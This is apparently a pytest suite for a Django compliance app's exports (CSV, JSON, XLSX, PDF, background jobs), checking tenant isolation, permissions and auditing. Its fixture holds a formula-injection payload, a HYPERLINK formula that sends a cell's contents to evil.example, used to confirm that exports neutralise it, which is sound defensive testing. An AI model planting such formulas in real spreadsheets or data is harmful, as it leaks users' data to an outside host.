"""Exports: filtered, streamed, tenant-isolated, formula-safe; jobs with progress; the PDF report."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from accounts.actors import Actor
from audit.models import AuditEvent
from escalations.services import SourceRef, escalation_create
from reports.exports import neutralise
from reports.models import ExportJob
from reports.tasks import export_job_run_task
from tests.reports.conftest import decide

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body_of(response).decode("utf-8-sig"))))


@pytest.fixture
def cases(demo, vendor, demo_actor):
    smr = escalation_create(actor=vendor, type="SMR", reason=FORMULA, source=SourceRef("shop", "order", "@SUM(1+1)"))
    decide(demo_actor("co"), smr, justification="-2+3 looks fine")
    open_case = escalation_create(actor=vendor, type="SANCTIONS_MATCH", reason="Name match",
                                  source=SourceRef("kyc", "customer", "CUS-1"))
    return {"smr": smr, "open": open_case}


@pytest.fixture
def outsider(make_tenant, make_person):
    """Another tenant with an escalation and a compliance officer who may export."""
    from escalations.demo import seed_demo

    seed_demo("acme")
    from accounts.models import ApiKey, Tenant, User

    acme = Tenant.objects.get(slug="acme")
    key = Actor(tenant=acme, api_key=ApiKey.objects.get(tenant=acme, name="vendor"))
    case = escalation_create(actor=key, type="SMR", reason="Acme's secret case", source=SourceRef("x", "y", "ACME-1"))
    return {"tenant": acme, "case": case, "co": User.objects.get(username="acme-co")}


def test_a_csv_export_streams_the_tenant_s_escalations_with_formulas_neutralised(cases, api):
    response = api("co").get("/api/v1/exports/escalations.csv")

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = {r["id"]: r for r in csv_rows(response)}
    assert set(rows) == {str(cases["smr"].pk), str(cases["open"].pk)}
    smr = rows[str(cases["smr"].pk)]
    assert smr["reason"] == "'" + FORMULA
    assert smr["source_entity_id"] == "'@SUM(1+1)"
    assert smr["status"] == "approved"


def test_every_dangerous_first_character_is_neutralised_and_nothing_else():
    for dangerous in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert neutralise(dangerous) == "'" + dangerous
    for safe in ("1+1", "a=b", " =x", ""):
        assert neutralise(safe) == safe


def test_decisions_export_neutralises_justifications_too(cases, api):
    rows = csv_rows(api("co").get("/api/v1/exports/decisions.csv"))

    assert len(rows) == 1
    assert rows[0]["justification"] == "'-2+3 looks fine"
    assert rows[0]["decided_by"] == "co"
    assert rows[0]["escalation"] == str(cases["smr"].pk)


def test_exports_are_filtered_like_lists(cases, api):
    by_status = csv_rows(api("co").get("/api/v1/exports/escalations.csv", {"status": "pending"}))
    by_type = csv_rows(api("co").get("/api/v1/exports/escalations.csv", {"type": "SMR"}))
    none_yet = csv_rows(api("co").get("/api/v1/exports/escalations.csv", {"created_before": "2000-01-01T00:00:00Z"}))

    assert [r["id"] for r in by_status] == [str(cases["open"].pk)]
    assert [r["id"] for r in by_type] == [str(cases["smr"].pk)]
    assert none_yet == []


def test_the_audit_export_holds_the_chain_of_the_matching_escalations(cases, api):
    response = api("ops").get("/api/v1/exports/audit.json", {"type": "SMR"})

    events = json.loads(body_of(response))
    assert [e["action"] for e in events] == ["escalation.created", "decision.recorded"]
    assert all(e["target_id"] == str(cases["smr"].pk) for e in events)
    assert events[1]["prev_hash"] == events[0]["hash"]


def test_a_json_export_is_one_valid_array_with_raw_values(cases, api):
    response = api("co").get("/api/v1/exports/escalations.json", {"type": "SMR"})

    assert response["Content-Type"] == "application/json"
    rows = json.loads(body_of(response))
    assert rows[0]["reason"] == FORMULA  # JSON is data, not a spreadsheet: kept as written
    assert rows[0]["approvals_received"] == 1


def test_an_xlsx_export_stores_formulas_as_text(cases, api):
    response = api("co").get("/api/v1/exports/escalations.xlsx", {"type": "SMR"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body_of(response)), read_only=True).active
    header, row = list(sheet.iter_rows(values_only=True))
    reason = row[header.index("reason")]
    assert reason == "'" + FORMULA
    assert row[header.index("amount_minor")] in ("", None)


def test_an_xlsx_export_holds_text_with_control_characters(demo, vendor, api):
    escalation_create(actor=vendor, type="SMR", reason="Pasted from a terminal:\x07\x1b[0m done\ttab",
                      source=SourceRef("shop", "order", "CTRL-1"))

    response = api("co").get("/api/v1/exports/escalations.xlsx", {"type": "SMR"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body_of(response)), read_only=True).active
    header, row = list(sheet.iter_rows(values_only=True))
    assert row[header.index("reason")] == "Pasted from a terminal:\ufffd\ufffd[0m done\ttab"


def test_another_tenant_s_rows_never_appear(cases, outsider, api):
    rows = csv_rows(api("co").get("/api/v1/exports/escalations.csv"))
    events = json.loads(body_of(api("co").get("/api/v1/exports/audit.json")))

    assert str(outsider["case"].pk) not in {r["id"] for r in rows}
    assert not [e for e in events if e["target_id"] == str(outsider["case"].pk)]


def test_exporting_needs_audit_export_and_is_audited(cases, api):
    refused = api("analyst").get("/api/v1/exports/escalations.csv")
    api("ops").get("/api/v1/exports/decisions.csv", {"status": "approved"})

    assert refused.status_code == 403
    assert refused["Content-Type"] == "application/problem+json"
    event = AuditEvent.objects.filter(action="export.downloaded").get()
    assert event.details["dataset"] == "decisions"
    assert event.details["filters"] == {"status": "approved"}


def test_bad_filters_and_unknown_datasets_are_4xx_problems(demo, api):
    bad_status = api("co").get("/api/v1/exports/escalations.csv", {"status": "nonsense"})
    bad_date = api("co").get("/api/v1/exports/escalations.csv", {"created_after": "yesterday"})
    unknown = api("co").get("/api/v1/exports/secrets.csv")

    assert bad_status.status_code == 400
    assert bad_status["Content-Type"] == "application/problem+json"
    assert bad_date.status_code == 400
    assert unknown.status_code == 404


def test_a_large_export_runs_as_a_job_with_progress_and_a_download_link(cases, api, settings, tmp_path,
                                                                        django_capture_on_commit_callbacks):
    settings.EXPORT_DIR = tmp_path
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        created = api("co").post("/api/v1/exports", {"dataset": "escalations", "format": "csv",
                                                     "filters": {"type": "SMR"}}, content_type="application/json")
    assert created.status_code == 202
    job_id = created.json()["id"]
    assert created.json()["status"] == "queued"
    assert created["Location"] == f"/api/v1/exports/jobs/{job_id}"
    # The worker is asked only once the request's transaction commits.
    assert [c for c in callbacks if c.__qualname__.startswith("export_job_create.")]

    export_job_run_task.apply(args=[job_id])  # what the worker runs

    status = api("co").get(f"/api/v1/exports/jobs/{job_id}").json()
    assert status["status"] == "done"
    assert (status["progress"], status["rows_done"], status["rows_total"]) == (1.0, 1, 1)
    download = api("co").get(status["download_url"].replace("http://testserver", ""))
    assert download.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(download.streaming_content).decode("utf-8-sig"))))
    assert [r["id"] for r in rows] == [str(cases["smr"].pk)]


def test_an_xlsx_job_writes_a_workbook(cases, api, settings, tmp_path):
    settings.EXPORT_DIR = tmp_path
    job_id = api("ops").post("/api/v1/exports", {"dataset": "audit", "format": "xlsx"},
                             content_type="application/json").json()["id"]

    export_job_run_task.apply(args=[job_id])

    job = ExportJob.objects.get(pk=job_id)
    assert job.status == "done"
    sheet = load_workbook(tmp_path / str(job.tenant_id) / job.file_name, read_only=True).active
    assert len(list(sheet.iter_rows(values_only=True))) == job.rows_done + 1 > 1


def test_running_a_job_twice_does_not_run_it_again(cases, api, settings, tmp_path):
    settings.EXPORT_DIR = tmp_path
    job_id = api("co").post("/api/v1/exports", {"dataset": "decisions", "format": "json"},
                            content_type="application/json").json()["id"]

    export_job_run_task.apply(args=[job_id])
    finished = ExportJob.objects.get(pk=job_id).finished_at
    export_job_run_task.apply(args=[job_id])

    assert ExportJob.objects.get(pk=job_id).finished_at == finished
    assert AuditEvent.objects.filter(action="export.completed").count() == 1


def test_a_job_file_is_not_ready_before_it_is_done(cases, api, settings, tmp_path):
    settings.EXPORT_DIR = tmp_path
    job_id = api("co").post("/api/v1/exports", {"dataset": "decisions", "format": "csv"},
                            content_type="application/json").json()["id"]

    response = api("co").get(f"/api/v1/exports/jobs/{job_id}/file")

    assert response.status_code == 409


def test_another_tenant_s_job_is_not_found(cases, outsider, api, settings, tmp_path):
    settings.EXPORT_DIR = tmp_path
    job_id = api("co").post("/api/v1/exports", {"dataset": "escalations", "format": "csv"},
                            content_type="application/json").json()["id"]
    export_job_run_task.apply(args=[job_id])
    from django.test import Client

    from accounts.services import personal_token_create

    _, secret = personal_token_create(user=outsider["co"], tenant=outsider["tenant"], name="t",
                                      actor=Actor.for_system(outsider["tenant"], "test"))
    stranger = Client(HTTP_AUTHORIZATION=f"Bearer {secret}")

    assert stranger.get(f"/api/v1/exports/jobs/{job_id}").status_code == 404
    assert stranger.get(f"/api/v1/exports/jobs/{job_id}/file").status_code == 404
    assert stranger.get("/api/v1/exports/jobs/not-a-uuid").status_code == 404


def test_a_bad_job_request_is_a_400_problem(demo, api):
    response = api("co").post("/api/v1/exports", {"dataset": "users", "format": "pdf"}, content_type="application/json")

    assert response.status_code == 400
    assert set(response.json()["errors"]) == {"dataset", "format"}


def test_the_pdf_report_holds_the_case_its_decisions_and_its_audit_trail(cases, api):
    smr = cases["smr"]

    response = api("ops").get(f"/api/v1/escalations/{smr.pk}/report.pdf")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert str(smr.pk) in text
    assert "-2+3 looks fine" in text
    assert "escalation.created" in text
    assert "decision.recorded" in text
    assert AuditEvent.objects.filter(action="escalation.report_generated", target_id=str(smr.pk)).exists()


def test_the_pdf_of_another_tenant_s_escalation_is_not_found(cases, outsider, api):
    assert api("ops").get(f"/api/v1/escalations/{outsider['case'].pk}/report.pdf").status_code == 404
    assert api("ops").get("/api/v1/escalations/nope/report.pdf").status_code == 404


def test_the_pdf_needs_audit_export(cases, api):
    assert api("analyst").get(f"/api/v1/escalations/{cases['smr'].pk}/report.pdf").status_code == 403


def test_a_direct_xlsx_past_the_limit_points_to_a_job(cases, api, settings):
    settings.EXPORT_SYNC_XLSX_MAX_ROWS = 1

    response = api("co").get("/api/v1/exports/escalations.xlsx")

    assert response.status_code == 422
    assert response.json()["type"].endswith("/export-too-large")


def _session(username: str):
    from django.contrib.auth import get_user_model
    from django.test import Client

    client = Client()
    client.force_login(get_user_model().objects.get(username=username),
                       backend="django.contrib.auth.backends.ModelBackend")
    return client


def test_an_operator_starts_an_export_on_the_reports_page_and_downloads_it_when_done(cases, settings, tmp_path):
    settings.EXPORT_DIR = tmp_path
    ops = _session("ops")

    started = ops.post("/ops/exports/", {"tenant": "demo", "dataset": "escalations", "format": "csv", "type": "SMR"})
    job = ExportJob.objects.get()
    queued_page = ops.get("/ops/reports/")
    export_job_run_task.apply(args=[str(job.pk)])
    done_page = ops.get("/ops/reports/")
    download = ops.get(f"/ops/exports/{job.pk}/file")

    assert started.status_code == 302
    assert job.filters == {"type": "SMR"}
    assert b"queued" in queued_page.content
    assert f"/ops/exports/{job.pk}/file".encode() in done_page.content
    rows = list(csv.DictReader(io.StringIO(b"".join(download.streaming_content).decode("utf-8-sig"))))
    assert [r["id"] for r in rows] == [str(cases["smr"].pk)]


def test_another_tenant_s_person_cannot_download_an_export_from_the_page(cases, outsider, settings, tmp_path):
    settings.EXPORT_DIR = tmp_path
    _session("ops").post("/ops/exports/", {"tenant": "demo", "dataset": "audit", "format": "json"})
    job = ExportJob.objects.get()
    export_job_run_task.apply(args=[str(job.pk)])

    assert _session("acme-co").get(f"/ops/exports/{job.pk}/file").status_code == 404
    assert _session("analyst").post("/ops/exports/", {"dataset": "audit", "format": "json"}).status_code == 403
